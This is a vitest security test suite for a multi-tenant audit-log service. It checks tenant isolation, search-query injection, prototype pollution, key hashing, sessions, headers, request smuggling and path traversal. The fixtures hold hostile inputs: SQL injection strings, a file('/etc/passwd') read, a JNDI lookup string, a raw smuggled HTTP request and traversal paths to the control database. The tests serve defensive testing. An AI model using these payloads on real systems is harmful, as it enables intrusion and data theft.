import { readFileSync } from 'node:fs';
import { request as httpRequest } from 'node:http';
import { connect } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { IngestReply, Problem, SearchReply } from '../../src/api/contract.js';
import { auditEvent } from '../support/events.js';
import { Program, removeDir, tempDir } from '../support/program.js';

let program: Program;
let acme: { id: string; key: string };
let evil: { id: string; key: string };
const data = tempDir();

beforeAll(async () => {
  program = await Program.start(data);
  acme = await program.tenant('acme');
  evil = await program.tenant('evil');
});
afterAll(async () => {
  await program?.stop();
  removeDir(data);
});

const sealed = (key: string, events: unknown) =>
  program.post<IngestReply>('/v1/events?wait=sealed', key, events);

/** Answers without what tells of time alone. */
const stable = (text: string): string => text.replace(/"elapsed_ms":[\d.]+/g, '');

describe('T1 tenants', () => {
  it('nothing a tenant is told changes when another sends', async () => {
    const trace = '0af7651916cd43dd8448eb211c80319c';
    const event = auditEvent({ correlation: { trace_id: trace, request_id: 'shared-request' } });
    await sealed(acme.key, [event, auditEvent()]);
    const window = { from: '2020-01-01T00:00:00Z', to: new Date(Date.now() + 60_000).toISOString() };
    const ask = async (): Promise<string[]> => {
      const answers = [
        await program.post('/v1/search', acme.key, { query: '*', ...window }),
        await program.post('/v1/search', acme.key, {
          query: `trace_id:${trace} OR entity.id:pol-7`,
          ...window,
        }),
        await program.post('/v1/histogram', acme.key, { query: '*', ...window, buckets: 10 }),
        await program.post('/v1/facets', acme.key, { query: '*', ...window }),
        await program.get('/v1/correlation/shared-request', acme.key),
        await program.get(`/v1/events/${event.event_id}`, acme.key),
        await program.get(`/v1/events/${event.event_id}/proof`, acme.key),
        await program.get(`/ledger/${acme.id}/audit/checkpoint`, acme.key),
        await program.get('/v1/keys', acme.key),
      ];
      expect(answers.every((a) => a.status === 200)).toBe(true);
      return answers.map((a) => stable(a.text));
    };
    const before = await ask();
    // The very same id, entity and correlation, from the other tenant.
    const reply = await sealed(evil.key, [
      event,
      auditEvent({ correlation: { trace_id: trace, request_id: 'shared-request' } }),
    ]);
    expect(reply.body.accepted).toBe(2);
    expect(await ask()).toEqual(before);
  });

  it('a key of one tenant reaches nothing of another, and cannot tell it from nothing', async () => {
    const event = auditEvent();
    await sealed(acme.key, event);
    const missing = await program.get<Problem>(`/v1/events/${auditEvent().event_id}`, evil.key);
    const foreign = await program.get<Problem>(`/v1/events/${event.event_id}`, evil.key);
    expect([foreign.status, foreign.body.detail]).toEqual([missing.status, missing.body.detail]);
    expect((await program.get(`/v1/events/${event.event_id}/proof`, evil.key)).status).toBe(404);
    for (const path of ['checkpoint', 'vkey', 'tile/0/000.p/1', 'tile/entries/000']) {
      const [a, b] = [
        await program.get<Problem>(`/ledger/${acme.id}/audit/${path}`, evil.key),
        await program.get<Problem>(`/ledger/nobody/audit/${path}`, evil.key),
      ];
      expect([a.status, a.body.detail]).toEqual([404, b.body.detail]);
    }
    const header = { 'x-prooflog-tenant': 'acme' };
    expect((await program.post('/v1/search', evil.key, { query: '*' }, header)).status).toBe(403);
    expect((await program.post('/v1/keys', evil.key, { tenant: 'acme', role: 'admin' })).status).toBe(403);
    expect((await program.post('/v1/tenants', evil.key, { slug: 'x', packs: [] })).status).toBe(403);
  });
});

describe('T6 and T8 queries', () => {
  it.each([
    "entity.id:'; DROP TABLE events; --",
    'entity.id:"x\' OR 1=1 OR tenant=\'"',
    '{p0:String} OR 1',
    "file('/etc/passwd')",
    'tenant:evil',
    'fields[tenant]:evil OR *',
    'action:*) OR (1=1',
    "\\') UNION ALL SELECT * FROM events --",
    'url/**/(',
  ])('%s shows nothing of others', async (query) => {
    await sealed(evil.key, auditEvent({ entity: { type: 'policy', id: 'evil-only' } }));
    const { status, text } = await program.post<SearchReply & Problem>('/v1/search', acme.key, { query });
    expect([200, 400]).toContain(status);
    expect(text).not.toContain('evil-only');
    expect(text).not.toContain(evil.id);
    expect(text).not.toContain('root:');
  });
});

describe('T11 prototypes', () => {
  it('keys from outside are only keys', async () => {
    for (const name of ['__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString']) {
      const poisoned = `{"${name}":{"polluted":"yes"},${JSON.stringify(auditEvent()).slice(1)}`;
      const { body } = await program.request<IngestReply>('POST', '/v1/events', {
        key: acme.key,
        body: poisoned,
      });
      expect(body.rejected, name).toMatchObject([{ code: 'undeclared_field' }]);
      const log = `{"resourceLogs":[{"resource":{"attributes":[{"key":"${name}","value":{"kvlistValue":{"values":[{"key":"polluted","value":{"stringValue":"yes"}}]}}}]},"scopeLogs":[{"logRecords":[{"body":{"stringValue":"${name} seen"}}]}]}]}`;
      expect(
        (
          await program.request('POST', '/v1/logs', {
            key: acme.key,
            body: log,
            headers: { 'content-type': 'application/json' },
          })
        ).status,
      ).toBe(200);
    }
    const { body } = await program.eventually(
      () => program.post<SearchReply>('/v1/search', acme.key, { query: '"__proto__ seen"' }),
      (r) => r.body.records.length > 0,
    );
    expect(Object.keys(body.records[0]?.data?.attributes ?? {})).toContain('__proto__');
    expect(
      (await program.post<SearchReply>('/v1/search', acme.key, { query: '__proto__:x OR constructor:y' }))
        .status,
    ).toBe(200);
    expect(({} as { polluted?: string }).polluted).toBeUndefined();
  });
});

describe('T13 what hides in text', () => {
  it('is sealed as it came', async () => {
    const note = 'a\u001b[31mred\u202eoverride\u0000nul\r\nX-Injected: 1 $' + '{jndi:ldap://x.example/a}';
    const event = auditEvent({ metadata: { safe_fields_only: true, details: { note } } });
    await sealed(acme.key, event);
    const { body, headers } = await program.get<SearchReply['records'][number]>(
      `/v1/events/${event.event_id}`,
      acme.key,
    );
    expect(body.metadata?.details?.note).toBe(note);
    expect(headers.get('x-injected')).toBeNull();
    expect(program.output).not.toContain('jndi');
  });
});

describe('T19 cursors', () => {
  it('belong to one search and one credential', async () => {
    await sealed(acme.key, [auditEvent(), auditEvent(), auditEvent()]);
    const ask = (key: string, body: object) => program.post<SearchReply & Problem>('/v1/search', key, body);
    const { body } = await ask(acme.key, { query: '*', limit: 1 });
    const { cursor = '' } = body;
    expect((await ask(acme.key, { query: '*', limit: 1, cursor })).status).toBe(200);
    const other = await program.key('acme', 'reader');
    const altered = `${cursor.startsWith('A') ? 'B' : 'A'}${cursor.slice(1)}`;
    for (const [key, wrong] of [
      [other, { query: '*', limit: 1, cursor }],
      [acme.key, { query: 'level:ERROR', limit: 1, cursor }],
      [acme.key, { query: '*', limit: 1, cursor: altered }],
      [acme.key, { query: '*', limit: 1, cursor: 'x' }],
    ] as const)
      expect([(await ask(key, wrong)).body.code]).toEqual(['bad_cursor']);
  });
});

describe('T20 keys', () => {
  it('are stored hashed, work only whole, and end with their revocation', async () => {
    const { body } = await program.post<{ id: string; key: string }>('/v1/keys', acme.key, {
      role: 'reader',
    });
    const secret = body.key.split('_').slice(2).join('_');
    expect((await program.get('/v1/fields', body.key)).status).toBe(200);
    for (const wrong of [
      body.key.slice(0, -1),
      `${body.key}x`,
      body.key.replace(/.$/, (c) => (c === 'A' ? 'B' : 'A')),
      body.key.toUpperCase(),
      '',
    ])
      expect(
        (await program.request('GET', '/v1/fields', { headers: { authorization: `Bearer ${wrong}` } }))
          .status,
      ).toBe(401);
    for (const file of ['control.db', 'control.db-wal'])
      expect(readFileSync(`${data}/${file}`).includes(secret)).toBe(false);
    await program.request('DELETE', `/v1/keys/${body.id}`, { key: acme.key });
    expect((await program.get('/v1/fields', body.key)).status).toBe(401);
    expect((await program.request('DELETE', `/v1/keys/${body.id}`, { key: evil.key })).status).toBe(404);
  });

  it('one-time links open one session, and sessions need the anti-forgery header', async () => {
    const { body } = await program.post<{ path: string }>('/v1/session/link', 'test-administrator-token', {});
    const token = body.path.split('=')[1] ?? '';
    const first = await program.request('POST', '/v1/session', { body: JSON.stringify({ token }) });
    expect(first.status).toBe(200);
    expect(first.headers.get('set-cookie')).toMatch(/HttpOnly; SameSite=Strict/);
    expect((await program.request('POST', '/v1/session', { body: JSON.stringify({ token }) })).status).toBe(
      401,
    );
    const cookie = (first.headers.get('set-cookie') ?? '').split(';')[0] ?? '';
    const headers = { cookie, 'x-prooflog-tenant': 'acme', 'content-type': 'application/json' };
    expect((await program.request('POST', '/v1/search', { headers, body: '{"query":"*"}' })).status).toBe(
      403,
    );
    expect(
      (
        await program.request('POST', '/v1/search', {
          headers: { ...headers, 'x-prooflog-csrf': '1' },
          body: '{"query":"*"}',
        })
      ).status,
    ).toBe(200);
  });
});

describe('T12 and T24 the door itself', () => {
  it('sends a strict content security policy with everything', async () => {
    for (const path of ['/', '/v1/session', '/nothing']) {
      const csp = (await program.request('GET', path)).headers.get('content-security-policy') ?? '';
      expect(csp).toContain("default-src 'none'");
      expect(csp).toContain("require-trusted-types-for 'script'");
      expect(csp).not.toContain('unsafe');
    }
  });

  it.each([
    'text/html',
    'multipart/form-data; boundary=x',
    'application/json-patch+json',
    'application/jsonx',
    '*/*',
    'application/xml; charset=application/json',
  ])('refuses the content type %s', async (type) => {
    const { status } = await program.request('POST', '/v1/events', {
      key: acme.key,
      body: '{}',
      headers: { 'content-type': type },
    });
    expect(status).toBe(415);
  });

  it('refuses a request with two lengths', async () => {
    const { hostname, port } = new URL(program.url);
    const answer = await new Promise<string>((resolve) => {
      const socket = connect(Number(port), hostname, () =>
        socket.write(
          `POST /v1/events HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${acme.key}\r\nContent-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /v1/keys HTTP/1.1\r\nHost: x\r\n\r\n`,
        ),
      );
      let text = '';
      socket.on('data', (chunk) => {
        text += chunk.toString();
      });
      socket.on('close', () => resolve(text));
    });
    expect(answer).toMatch(/^HTTP\/1.1 400/);
    expect(answer.match(/HTTP\/1.1/g)).toHaveLength(1);
  });

  it('survives a sender that goes away in the middle', async () => {
    await new Promise<void>((resolve) => {
      const request = httpRequest(`${program.url}/v1/events`, {
        method: 'POST',
        headers: { authorization: `Bearer ${acme.key}`, 'content-length': '1000' },
      });
      request.on('error', () => resolve());
      request.write('[{"half":');
      setImmediate(() => request.destroy());
    });
    expect((await program.request('GET', '/health')).status).toBe(200);
  });

  it('knows no path outside the ledger', async () => {
    for (const path of [
      'tile/../../../control.db',
      'tile/entries/..%2f..%2fcontrol.db',
      'tile/0/000%00',
      'tile/0/0',
      'tile/64/000',
      'tile/00/000',
      'block/..%2fvkey',
      'tile/0/000.p/256',
      'tile/0/000.p/0',
    ])
      expect((await program.get(`/ledger/${acme.id}/audit/${path}`, acme.key)).status, path).toBe(404);
  });
});
